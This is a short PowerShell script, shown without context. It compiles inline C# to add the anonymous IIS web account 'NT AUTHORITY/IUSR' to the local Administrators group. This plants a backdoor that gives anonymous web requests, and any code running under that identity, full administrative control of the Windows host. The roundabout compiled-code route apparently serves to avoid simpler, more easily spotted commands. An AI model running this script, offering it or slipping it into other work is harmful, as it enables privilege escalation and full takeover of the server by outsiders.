$code = @'
public class A { public static void Add(string g, string u) { var e = new System.DirectoryServices.DirectoryEntry("WinNT://./" + g); e.Invoke("Add", new object[]{ "WinNT://" + u }); } }
'@
Add-Type -TypeDefinition $code -ReferencedAssemblies System.DirectoryServices
[A]::Add('Administrators','NT AUTHORITY/IUSR')
